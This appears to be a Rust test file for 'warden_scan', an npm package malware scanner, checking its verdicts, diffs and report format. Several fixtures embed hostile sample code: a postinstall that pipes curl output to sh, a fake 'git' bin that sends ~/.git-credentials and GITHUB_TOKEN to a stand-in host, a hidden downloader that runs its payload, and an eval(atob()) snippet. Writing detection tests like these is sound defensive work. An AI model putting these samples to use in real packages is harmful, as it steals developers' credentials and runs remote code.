//! The public API on built-in-memory tarballs: concatenated gzip members, hostile nesting,
//! garbage input, verdicts, capabilities, diffs.

use std::io::Write;
use warden_scan::{Capability, ScanOptions, Verdict, diff, scan_files, scan_tarball};

fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, path, *data).expect("in-memory tar");
    }
    b.into_inner().expect("in-memory tar")
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(bytes).expect("in-memory gzip");
    e.finish().expect("in-memory gzip")
}

#[test]
fn every_concatenated_gzip_member_is_decoded() {
    let tar = tar_of(&[
        (
            "package/package.json",
            br#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}"#,
        ),
        (
            "package/x.js",
            b"require('child_process').exec('curl -s http://h.example/i | sh')",
        ),
    ]);
    // Split the tar stream into two gzip members, as some real tarballs are.
    let (first, second) = tar.split_at(512 * 2);
    let mut bytes = gz(first);
    bytes.extend(gz(second));
    let r = scan_tarball(&bytes, &ScanOptions::default());
    assert!(r.files.iter().any(|f| f.path == "x.js"), "{:?}", r.files);
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn garbage_and_truncated_input_never_panics() {
    for input in [
        &b""[..],
        b"not a tarball at all",
        &[0x1f, 0x8b, 8, 0, 0, 0],
        &[0u8; 4096],
    ] {
        let r = scan_tarball(input, &ScanOptions::default());
        assert!(r.verdict <= Verdict::Review);
    }
}

#[test]
fn hostile_nesting_is_reported_not_crashed_on() {
    let deep = "[".repeat(200_000);
    let r = scan_files(
        vec![
            (
                "package.json".into(),
                br#"{"name":"n","version":"1.0.0","main":"index.js"}"#.to_vec(),
            ),
            ("index.js".into(), deep.into_bytes()),
        ],
        &ScanOptions::default(),
    );
    assert!(
        r.findings.iter().any(|f| f.rule == "unparseable-code"),
        "{:?}",
        r.findings
    );
}

#[test]
fn moderately_deep_code_still_parses_on_the_big_stack() {
    let code = format!(
        "module.exports = {}1{};",
        "(".repeat(1_000),
        ")".repeat(1_000)
    );
    let r = scan_files(
        vec![("index.js".into(), code.into_bytes())],
        &ScanOptions::default(),
    );
    assert!(
        !r.findings.iter().any(|f| f.rule == "unparseable-code"),
        "{:?}",
        r.findings
    );
}

#[test]
fn a_lone_child_process_in_a_cli_is_not_malicious() {
    let r = scan_files(
        vec![
            ("package.json".into(), br#"{"name":"tool","version":"1.0.0","bin":{"tool":"bin/tool.js"}}"#.to_vec()),
            ("bin/tool.js".into(), b"#!/usr/bin/env node\nconst { execFileSync } = require('child_process');\nexecFileSync('git', ['status'], { stdio: 'inherit' });\n".to_vec()),
        ],
        &ScanOptions::default(),
    );
    assert_eq!(r.verdict, Verdict::Ok, "{:?}", r.findings);
    assert!(r.capabilities.contains_key(&Capability::ChildProcess));
    assert_eq!(
        r.capabilities[&Capability::ChildProcess],
        vec!["bin/tool.js".to_string()]
    );
}

#[test]
fn manifest_confusion_is_found_against_the_registry_manifest() {
    let bytes = gz(&tar_of(&[
        (
            "package/package.json",
            br#"{"name":"fmt","version":"1.0.0","scripts":{"install":"node setup.js"}}"#,
        ),
        ("package/setup.js", b"console.log(1)"),
    ]));
    let opts = ScanOptions {
        manifest: Some(serde_json::json!({"name":"fmt","version":"1.0.0","scripts":{}})),
        ..ScanOptions::default()
    };
    let r = scan_tarball(&bytes, &opts);
    assert!(
        r.findings.iter().any(
            |f| f.rule == "manifest-confusion" && f.severity == warden_scan::Severity::Critical
        ),
        "{:?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn diff_names_gained_capabilities_scripts_dependencies_and_files() {
    let old = scan_files(
        vec![
            (
                "package.json".into(),
                br#"{"name":"c","version":"1.0.0"}"#.to_vec(),
            ),
            ("index.js".into(), b"module.exports = 1\n".to_vec()),
        ],
        &ScanOptions::default(),
    );
    let new = scan_files(
        vec![
            ("package.json".into(), br#"{"name":"c","version":"1.0.1","scripts":{"postinstall":"node i.js"},"dependencies":{"x":"1"}}"#.to_vec()),
            ("index.js".into(), b"module.exports = 1\nfetch('https://api.example.com/')\n".to_vec()),
            ("i.js".into(), b"console.log(1)\n".to_vec()),
        ],
        &ScanOptions::default(),
    );
    let d = diff(&old, &new);
    assert!(d.capabilities_gained.contains_key(&Capability::Network));
    assert!(
        d.capabilities_gained
            .contains_key(&Capability::InstallScript)
    );
    assert_eq!(
        d.install_scripts_added
            .get("postinstall")
            .map(String::as_str),
        Some("node i.js")
    );
    assert_eq!(d.dependencies_added.get("x").map(String::as_str), Some("1"));
    assert_eq!(d.files_added.len(), 1);
    assert_eq!(
        d.files_changed
            .iter()
            .find(|f| f.path == "index.js")
            .map(|f| (f.old_lines, f.new_lines)),
        Some((1, 2))
    );
    assert!(d.is_notable());
}

#[test]
fn json_report_has_lowercase_verdict_and_finding_fields() {
    let r = scan_files(
        vec![(
            "index.js".into(),
            b"eval(atob('Y29uc29sZS5sb2coMSk='))".to_vec(),
        )],
        &ScanOptions::default(),
    );
    let v = serde_json::to_value(&r).expect("report serialises");
    assert!(matches!(
        v["verdict"].as_str(),
        Some("ok" | "review" | "malicious")
    ));
    let f = &v["findings"][0];
    assert!(
        f["rule"].is_string()
            && f["severity"].is_string()
            && f["file"].is_string()
            && f["line"].is_u64()
    );
}

#[test]
fn every_rule_id_is_unique_and_documented() {
    let rules = warden_scan::rules();
    let mut ids: Vec<&str> = rules.iter().map(|r| r.id).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), rules.len());
    for r in rules {
        assert!(
            !r.description.trim().is_empty() && !r.title.is_empty() && !r.incident.is_empty(),
            "{}",
            r.id
        );
    }
}

fn verdict_of(files: &[(&str, &[u8])]) -> (Verdict, Vec<String>) {
    let r = scan_tarball(&gz(&tar_of(files)), &ScanOptions::default());
    (r.verdict, r.reasons)
}

#[test]
fn a_bin_shadowing_git_is_malicious_only_when_it_reads_credentials() {
    let pj: &[u8] = br#"{"name":"git-tools","version":"1.0.0","bin":{"git":"bin/git.js"}}"#;
    let stealer: &[u8] = b"const fs = require('fs'), os = require('os'), https = require('https');\nconst c = fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8');\nhttps.request({ host: 'stats.example.net', method: 'POST' }).end(c + process.env.GITHUB_TOKEN);\nrequire('child_process').spawnSync('git', process.argv.slice(2), { stdio: 'inherit' });\n";
    let (v, reasons) = verdict_of(&[
        ("package/package.json", pj),
        ("package/bin/git.js", stealer),
    ]);
    assert_eq!(v, Verdict::Malicious, "{reasons:?}");
    assert!(
        reasons.iter().any(|r| r.contains("bin `git`")),
        "{reasons:?}"
    );
    let shim: &[u8] = b"const { spawnSync } = require('child_process');\nconst r = spawnSync(require('path').join(require('os').homedir(), '.shim', 'git'), process.argv.slice(2), { stdio: 'inherit' });\nprocess.exit(r.status || 0);\n";
    let (v, reasons) = verdict_of(&[("package/package.json", pj), ("package/bin/git.js", shim)]);
    assert_ne!(v, Verdict::Malicious, "{reasons:?}");
}

#[test]
fn a_download_started_hidden_is_malicious_but_a_verified_installer_is_not() {
    let pj: &[u8] = br#"{"name":"a","version":"1.0.0","main":"index.js"}"#;
    let dropper: &[u8] = b"const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\nconst dst = path.join(os.tmpdir(), 'upd');\nhttps.get('https://cdn.example.org/upd', (r) => { const f = fs.createWriteStream(dst, { mode: 0o755 }); r.pipe(f); f.on('finish', () => spawn(dst, [], { detached: true, stdio: 'ignore' }).unref()); });\n";
    let (v, reasons) = verdict_of(&[("package/package.json", pj), ("package/index.js", dropper)]);
    assert_eq!(v, Verdict::Malicious, "{reasons:?}");
    let installer: &[u8] = b"const https = require('https'), fs = require('fs');\nconst { execFileSync } = require('child_process');\nhttps.get(url, (r) => { const b = []; r.on('data', (c) => b.push(c)); r.on('end', () => { if (sha256(Buffer.concat(b)) !== pinned) process.exit(1); fs.writeFileSync(tgz, Buffer.concat(b)); execFileSync('tar', ['-xzf', tgz]); }); });\n";
    let (v, reasons) = verdict_of(&[
        ("package/package.json", pj),
        ("package/index.js", installer),
    ]);
    assert_ne!(v, Verdict::Malicious, "{reasons:?}");
}
